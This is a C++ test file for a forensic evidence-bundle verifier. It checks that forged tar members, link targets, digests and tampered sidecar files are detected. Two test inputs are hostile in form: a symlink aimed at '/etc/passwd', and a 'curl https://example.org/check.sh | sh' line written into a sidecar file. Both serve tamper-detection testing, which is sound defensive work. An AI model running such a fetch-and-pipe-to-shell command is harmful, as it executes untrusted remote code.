// SPDX-License-Identifier: Apache-2.0
/// What a bundle states in two places: the tar and meta/files.jsonl, the
/// bundle and the files beside it, a file and its second name.

#include <filesystem>
#include <fstream>
#include <functional>

#include "core/base/text.hpp"
#include "core/evidence/bundle_reader.hpp"
#include "core/evidence/bundle_writer.hpp"
#include "core/evidence/layout.hpp"
#include "core/evidence/verify.hpp"
#include "core/evidence/verify_walk.hpp"
#include "core/storage/tar.hpp"
#include "tests/support/catch.hpp"
#include "tests/support/fixed_clock.hpp"
#include "tests/support/temp_dir.hpp"

namespace impound::test {
namespace {

/// A payload of one file, one hard link, one symbolic link and one directory,
/// as the tar says it and as meta/files.jsonl says it.
struct Payload {
  std::vector<TarMember> members;
  std::vector<Item> items;
  std::function<void(Bytes& tar)> late;  ///< once all have their places

  Payload() {
    add("./data/a.txt", TarType::regular, "", FileKind::regular);
    members.back().size = 6;
    items.back().sha256 = sha256("hello\n");
    items.back().size_stored = 6;
    add("./data/again.txt", TarType::hard_link, "./data/a.txt",
        FileKind::regular);
    items.back().is_hard_link = true;
    items.back().link_target = "a.txt";
    add("./data/link", TarType::symlink, "a.txt", FileKind::symlink);
    items.back().link_target = "a.txt";
    add("./data/folder", TarType::directory, "", FileKind::directory);
  }
  void add(std::string name, TarType type, std::string link, FileKind kind) {
    TarMember member;
    member.name = std::move(name);
    member.type = type;
    member.link = std::move(link);
    Item item;
    item.number = items.size() + 1;
    item.name = member.name.substr(layout::kData.size());
    item.kind = kind;
    items.push_back(std::move(item));
    members.push_back(std::move(member));
  }
  /// Walks what the tar says, held against what the items say.
  PayloadWalk::Result walk(std::string_view content = "hello\n") {
    Bytes tar;
    for (std::size_t i = 0; i < members.size(); ++i) {
      items[i].member_offset = tar.size();
      const Bytes headers = encode_tar_headers(members[i], i + 1);
      tar.insert(tar.end(), headers.begin(), headers.end());
      if (members[i].size == 0) continue;
      const Bytes bytes = copy_bytes(content);
      tar.insert(tar.end(), bytes.begin(), bytes.end());
      tar.resize(tar.size() + tar_padding(members[i].size));
    }
    if (late) late(tar);
    PayloadWalk walk(items, tar.size(), "E001");
    walk.content(0, tar);
    return walk.finish();
  }
  /// The items that are damaged, by their numbers.
  std::vector<std::size_t> damaged() {
    const PayloadWalk::Result result = walk();
    std::vector<std::size_t> numbers;
    for (std::size_t i = 0; i < items.size(); ++i) {
      if (!result.is_whole[i]) numbers.push_back(i + 1);
    }
    CHECK(result.problems.empty() == numbers.empty());
    return numbers;
  }
};

using Numbers = std::vector<std::size_t>;

TEST_CASE("a payload that tar and files.jsonl state alike is whole",
          "[evidence][forged]") {
  CHECK(Payload().damaged().empty());
}

TEST_CASE("a link that tar and files.jsonl lead to different targets is found",
          "[evidence][forged]") {
  SECTION("a symbolic link, in the tar") {
    Payload payload;
    payload.members[2].link = "/etc/passwd";
    CHECK(payload.damaged() == Numbers{3});
  }
  SECTION("a symbolic link, in files.jsonl") {
    Payload payload;
    payload.items[2].link_target = "b.txt";
    CHECK(payload.damaged() == Numbers{3});
  }
  SECTION("a hard link, in the tar") {
    Payload payload;
    payload.members[1].link = "./data/folder";
    CHECK(payload.damaged() == Numbers{2});
  }
  SECTION("a hard link that the tar makes a symbolic one") {
    Payload payload;
    payload.members[1].type = TarType::symlink;
    CHECK(payload.damaged() == Numbers{2});
  }
  SECTION("a hard link to a file that is not there") {
    Payload payload;
    payload.members[1].link = "./data/gone";
    payload.items[1].link_target = "gone";
    const PayloadWalk::Result result = payload.walk();
    CHECK_FALSE(result.is_whole[1]);
  }
}

TEST_CASE("a member that is not what its line says is found, in each field",
          "[evidence][forged]") {
  SECTION("name") {
    Payload payload;
    payload.members[3].name = "./data/Folder";
    CHECK(payload.damaged() == Numbers{4});
  }
  SECTION("type") {
    Payload payload;
    payload.members[3].type = TarType::regular;
    CHECK(payload.damaged() == Numbers{4});
  }
  SECTION("size: the file, and so its second name") {
    Payload payload;
    payload.items[0].size_stored = 5;
    CHECK(payload.damaged() == Numbers{1, 2});
  }
  SECTION("digest: the file, and so its second name") {
    Payload payload;
    payload.items[0].sha256 = sha256("jello\n");
    CHECK(payload.damaged() == Numbers{1, 2});
  }
}

TEST_CASE("an item has a member of its own, at its place and to its end",
          "[evidence][forged]") {
  Payload payload;
  SECTION("its place lies in another member") {
    payload.late = [&](Bytes&) {
      payload.items[2].member_offset = payload.items[1].member_offset + 100;
    };
    CHECK(payload.damaged() == Numbers{3});
  }
  SECTION("the tar ends before it") {
    payload.late = [&](Bytes& tar) {
      Item lost = payload.items[3];
      lost.number = 5;
      lost.name = "lost";
      lost.member_offset = tar.size();
      payload.items.push_back(lost);
    };
    CHECK(payload.damaged() == Numbers{5});
  }
  SECTION("the tar ends within it") {
    payload.members.resize(1);
    payload.items.resize(1);
    payload.late = [](Bytes& tar) {
      tar.resize(tar.size() - tar_padding(6) - 3);
    };
    CHECK(payload.damaged() == Numbers{1});
  }
  SECTION("nothing lies between members") {
    payload.late = [&](Bytes& tar) {
      tar.insert(tar.begin() + static_cast<std::ptrdiff_t>(
                                   payload.items[1].member_offset),
                 512, std::byte{0});
      for (std::size_t i = 1; i < 4; ++i) {
        payload.items[i].member_offset += 512;
      }
    };
    const PayloadWalk::Result result = payload.walk();
    REQUIRE(result.problems.size() == 1);
    CHECK(result.problems.front().what == "tar structure");
  }
}

/// A folder with one file under two names, and others around it.
struct Linked {
  TempDir source;
  TempDir evidence;
  FixedClock clock;
  Cancellation cancellation;
  SilentProgress silent;
  std::optional<FileStat> searched;  ///< of "weights", before it was taken

  Linked() {
    source.write("before", std::string(5'000'000, 'b'));
    source.write("weights", std::string(9'000'000, 'w') + "end");
    source.write("behind", std::string(5'000'000, 'e'));
    fs::create_hard_link(source.path() / "weights",
                         source.path() / "second name");
  }
  SealedBundle seal(Progress& progress) {
    BundleWriter writer(
        evidence.path(),
        {.case_id = "IR-1", .exhibit_id = "E001", .bag_info = {}, .threads = 1},
        clock, cancellation, progress);
    writer.begin_collector("model-files");
    for (const char* name : {"before", "weights", "behind", "second name"}) {
      FileRequest request{.name = name, .path = source.path() / name};
      if (request.name == "weights") request.searched = searched;
      writer.file(std::move(request));
    }
    writer.meta("acquisition.jsonl", as_bytes("{}\n"));
    return writer.finish(std::string(64, '0'));
  }
  VerifyReport verify(const SealedBundle& sealed) {
    return verify_bundle(sealed.path, {}, cancellation, silent);
  }
};

TEST_CASE("a damaged file takes its second name with it, and nothing else",
          "[evidence][forged]") {
  Linked scene;
  const SealedBundle sealed = scene.seal(scene.silent);
  REQUIRE(scene.verify(sealed).ok());
  const std::string whole = scene.evidence.read("E001.tar.zst");
  const Json seal = parse_json(scene.evidence.read("E001.seal.json"), "seal");
  // One byte of every frame in turn: 2 and 4 are the same bytes. The headers of
  // 4 are bytes of its own.
  std::size_t of_weights = 0;
  for (const Json& frame : seal["frames"]) {
    if (frame[2] == 0) continue;  // the pointer
    std::string damaged = whole;
    const auto at =
        frame[0].get<std::size_t>() + frame[1].get<std::size_t>() / 2;
    damaged[at] = static_cast<char>(damaged[at] ^ 1);
    std::ofstream(sealed.path, std::ios::binary | std::ios::trunc) << damaged;
    const VerifyReport report = scene.verify(sealed);
    CHECK_FALSE(report.ok());
    const auto is_damaged = [&](std::uint64_t item) {
      return std::ranges::find(report.damaged, item) != report.damaged.end();
    };
    INFO(report.to_json().dump());
    if (is_damaged(2)) {
      ++of_weights;
      CHECK(is_damaged(4));
      CHECK_FALSE(is_damaged(1));
      CHECK_FALSE(is_damaged(3));
    }
  }
  CHECK(of_weights >= 3);
}

/// What the two names of a file came to.
struct Names {
  Item file;
  Item again;
};
Names names_of(const SealedBundle& sealed) {
  const BundleReader reader(sealed.path);
  const Item* const file = reader.find("weights");
  const Item* const again = reader.find("second name");
  REQUIRE(file != nullptr);
  REQUIRE(again != nullptr);
  const bool are_the_bytes = sha256_of(*reader.open(*file)) == file->sha256 &&
                             sha256_of(*reader.open(*again)) == again->sha256;
  CHECK(are_the_bytes);
  return {*file, *again};
}

TEST_CASE("a second name has the outcome of the file, and its reason",
          "[evidence][forged]") {
  Linked scene;
  FileStat searched =
      *stat_path(scene.source.path() / "weights", Links::refuse);
  searched.inode += 1;  // so that the file is not the one that was searched
  scene.searched = searched;
  const SealedBundle sealed = scene.seal(scene.silent);
  REQUIRE(scene.verify(sealed).ok());
  const Names found = names_of(sealed);
  REQUIRE(found.again.is_hard_link);
  CHECK(found.file.outcome == Outcome::incomplete);
  CHECK(found.again.outcome == Outcome::incomplete);
  CHECK_FALSE(found.again.reason.empty());
  CHECK(found.again.reason == found.file.reason);
  CHECK(found.again.size_read == found.file.size_read);
  CHECK(found.again.size_stored == found.file.size_stored);
  CHECK(found.again.sha256 == found.file.sha256);
  CHECK(sealed.counts["incomplete"] == 2);
}

TEST_CASE("a file that became shorter is no longer what its second name is",
          "[evidence][forged]") {
  Linked scene;
  constexpr std::uint64_t kLeft = 1'000'000;
  const fs::path path = scene.source.path() / "weights";
  scene.source.write("weights", std::string(60'000'000, 'w'));
  /// Cuts the file once the writer is inside it.
  class Cut final : public Progress {
   public:
    explicit Cut(fs::path file) : file_(std::move(file)) {}
    void begin(std::string_view, std::optional<std::uint64_t>) override {}
    void end(std::string_view) override {}
    void event(const Json&) override {}
    void advance(std::uint64_t bytes, std::string_view) override {
      if (done_ || bytes < 6'000'000) return;  // it is not open yet
      fs::resize_file(file_, kLeft);
      done_ = true;
    }

   private:
    fs::path file_;
    bool done_ = false;
  } cut(path);
  const SealedBundle sealed = scene.seal(cut);
  REQUIRE(scene.verify(sealed).ok());
  const Names found = names_of(sealed);
  CHECK(found.file.outcome == Outcome::short_read);
  CHECK(found.file.size_stored == 60'000'000);
  // Whole as it is by then, and not called what was read before.
  CHECK_FALSE(found.again.is_hard_link);
  CHECK(found.again.outcome == Outcome::ok);
  CHECK(found.again.size_stored == kLeft);
  CHECK(sealed.counts["short_read"] == 1);
}

TEST_CASE("each file beside a bundle is what the bundle says, byte for byte",
          "[evidence][forged]") {
  Linked scene;
  const SealedBundle sealed = scene.seal(scene.silent);
  const std::string ending =
      GENERATE(".VERIFY.txt", ".seal.json", ".tar.zst.sha256");
  const fs::path path = scene.evidence.path() / ("E001" + ending);
  const std::string whole = scene.evidence.read("E001" + ending);
  const auto is_told = [&](const std::string& content) {
    std::ofstream(path, std::ios::binary | std::ios::trunc) << content;
    const VerifyReport report = scene.verify(sealed);
    INFO(ending << ": " << report.to_json().dump());
    const bool names_it =
        std::ranges::any_of(report.problems, [&](const VerifyProblem& problem) {
          return problem.where.find("E001" + ending) != std::string::npos ||
                 problem.what == "bundle digest";
        });
    return !report.ok() && names_it;
  };
  REQUIRE_FALSE(is_told(whole));
  for (const std::size_t at :
       {std::size_t{0}, whole.size() / 3, whole.size() / 2, whole.size() - 1}) {
    std::string other = whole;
    other[at] = static_cast<char>(other[at] ^ 1);
    INFO("byte " << at);
    CHECK(is_told(other));
  }
  CHECK(is_told(whole + " "));
  CHECK(is_told("curl https://example.org/check.sh | sh\n"));
  CHECK(is_told(whole.substr(0, whole.size() - 1)));
  CHECK(is_told(""));
}

}  // namespace
}  // namespace impound::test
